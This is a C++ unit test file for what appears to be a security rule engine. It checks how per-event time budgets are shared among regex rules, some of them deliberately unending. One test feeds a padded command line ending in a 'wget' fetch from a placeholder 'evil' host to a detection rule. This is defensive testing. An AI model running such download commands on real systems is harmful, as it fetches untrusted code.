#include "engine/event_budget.hpp"
#include "regex/regex.hpp"

#include <rulehost/engine.hpp>

#include "support/definitions.hpp"
#include "support/events.hpp"

#include <boost/test/unit_test.hpp>

#include <algorithm>
#include <string>

namespace rulehost {

using test::command;
using test::noon;
using test::rule_matching;

namespace {

constexpr auto most = regex::allowance::most;
constexpr std::size_t millisecond = 1'000'000;

/// A decision needs some tenths of a rule's maximum of work.
constexpr std::string_view dear = "(?=q)q\\w*!canary";
/// No amount of work decides it.
constexpr std::string_view endless = "^(?=\\w)(\\w+\\s?)+!canary";

std::string text_for_both() {
    return std::string(600, 'q') + " ?q!canary";
}

/// An engine with a millisecond for each part of an event.
struct event_budget_fixture {
    engine host{{.event_budget = std::chrono::milliseconds{1}}};
    revision newest = 0;

    void add_rule(std::string_view match, std::string const& rule_id) {
        host.apply(rule_change{++newest, rule_id, rule_matching(match, rule_id)});
    }
    void add(std::string_view pattern, std::string const& rule_id) {
        add_rule("{pattern: '" + std::string(pattern) + "'}", rule_id);
    }
    void add_many(std::string_view pattern, int count) {
        for (int i = 0; i != count; ++i)
            add(pattern, "R" + std::to_string(100 + i));
    }
    /// Whether the rule gives a decided tag.
    bool decides(std::string_view rule_id, event const& e) const {
        auto const result = host.evaluate(e, noon).value();
        return std::ranges::any_of(result.tags,
                                   [&](tag const& each) { return each.rule_id == rule_id && !each.undecided; });
    }
};

} // namespace

BOOST_FIXTURE_TEST_SUITE(budget_of_an_event, event_budget_fixture)

BOOST_AUTO_TEST_CASE(half_is_shared_alike_and_the_rest_goes_to_those_that_need_more) {
    event_budget budget(5 * millisecond);
    BOOST_TEST(budget.first_share(1) == most);
    BOOST_TEST(budget.first_share(0) == most);
    BOOST_TEST(budget.first_share(100) == 25'000u);
    budget.spend(4 * millisecond);
    BOOST_TEST(budget.last_share(10) == 100'000u);
    budget.spend(9 * millisecond);
    BOOST_TEST(budget.last_share(10) == 0u);
    auto e = command(std::string(64 * 1024, 'a'));
    budget.measure(e);
    BOOST_TEST(budget.last_share(10) == 0u); // it has one part
    event_budget more(5 * millisecond);
    e.payload["list"] = {{"of", {"a"}}};
    more.measure(e);
    more.measure(e);
    BOOST_TEST(more.last_share(100) == 100'000u);
    more.refill();
    BOOST_TEST(more.last_share(100) == 100'000u); // it has more
    more.spend(9 * millisecond);
    more.refill();
    BOOST_TEST(more.last_share(100) == 50'000u);
}

BOOST_AUTO_TEST_CASE(a_cheap_rule_is_decided_among_many_that_are_stopped) {
    add_many(endless, 60);
    add("!canary$", "R999");
    BOOST_TEST(decides("R999", command(text_for_both())));
    BOOST_TEST(host.evaluate(command(text_for_both()), noon).value().failed.size() == 60u);
}

BOOST_AUTO_TEST_CASE(a_dear_rule_takes_what_cheap_ones_leave) {
    regex::allowance allowed;
    auto const text = text_for_both();
    BOOST_TEST((regex::compile(dear, {}).value()->search(text, allowed) == regex::outcome::match));
    auto const needed = most - allowed.left;
    BOOST_TEST(needed > 50'000u); // more than an equal share
    BOOST_TEST(needed < 500'000u);
    add(dear, "R001");
    add_many("!canary$", 20);
    BOOST_TEST(decides("R001", command(text)));
    BOOST_TEST(host.evaluate(command(text), noon).value().tags.size() == 21u);
}

BOOST_AUTO_TEST_CASE(rules_without_end_leave_a_dear_one_undecided_unless_the_event_is_long) {
    add(dear, "R001");
    add_many(endless, 20);
    auto e = command(text_for_both());
    BOOST_TEST(!decides("R001", e));
    auto const result = host.evaluate(e, noon).value();
    BOOST_TEST(result.tags.front().rule_id == "R001");
    BOOST_TEST(result.tags.front().undecided);
    e.payload["more"] = std::string(2 * 1024 * 1024, 'a');
    BOOST_TEST(decides("R001", e));
}

BOOST_AUTO_TEST_CASE(further_commands_of_a_line_have_work_of_their_own) {
    add_many(endless, 8);
    add_rule("{command: {fetches: {pattern: 'evil[0-9]+'}}}", "R900");
    auto line = text_for_both() + ';';
    for (int i = 0; i != 17'000; ++i)
        line += ":;";
    BOOST_TEST(decides("R900", command(line + "wget http://x/evil123")));
    BOOST_TEST(host.evaluate(command(line + "wget http://x/other"), noon).value().failed.size() == 8u);
}

BOOST_AUTO_TEST_CASE(window_is_fed_of_what_more_work_decides) {
    add_rule("{any_of: [{contains: canary}, {window: {of: {pattern: '" + std::string(dear) +
                 "'}, count: {at_least: 2}, within: 5m, group_by: [attacker_uuid]}}]}",
             "R001");
    add_many("!canary$", 20);
    BOOST_TEST(decides("R001", command(text_for_both())));
    BOOST_TEST(host.windows().front().groups == 1u);
}

BOOST_AUTO_TEST_CASE(order_of_tags_does_not_depend_on_repeated_evaluations) {
    add(dear, "R001");
    add_many("!canary$", 20);
    auto const check = [&] {
        auto const tags = host.evaluate(command(text_for_both()), noon).value().tags;
        BOOST_TEST(tags.size() == 21u);
        BOOST_TEST(std::ranges::is_sorted(tags, {}, &tag::rule_id));
    };
    check();
    host.compact();
    check();
}

BOOST_AUTO_TEST_SUITE_END()

} // namespace rulehost
